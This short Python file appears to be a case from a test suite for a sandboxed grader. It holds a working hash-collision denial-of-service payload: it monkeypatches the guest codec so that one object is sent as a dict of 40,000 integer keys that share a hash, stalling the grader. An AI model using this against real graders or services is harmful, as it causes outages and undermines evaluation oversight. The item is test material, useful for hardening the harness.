"""
what = "its end of the channel sends a dict whose keys all have one hash, which takes ages to build"
goal = "deny service"
success = "busy"
control = "not run: it forges the frames of the grader's own channel, which a kernel does not have"
"""

# %% gates
import sys

packer = sys.modules["guest.codec"].Packer
pack = packer.pack


class Forged:
    pass


def forged(self, value, depth=0):
    if isinstance(value, Forged):
        return ["dict", [[["int", str(i * (2**61 - 1))], ["none"]] for i in range(40_000)]]
    return pack(self, value, depth)


packer.pack = forged
gates = Forged()
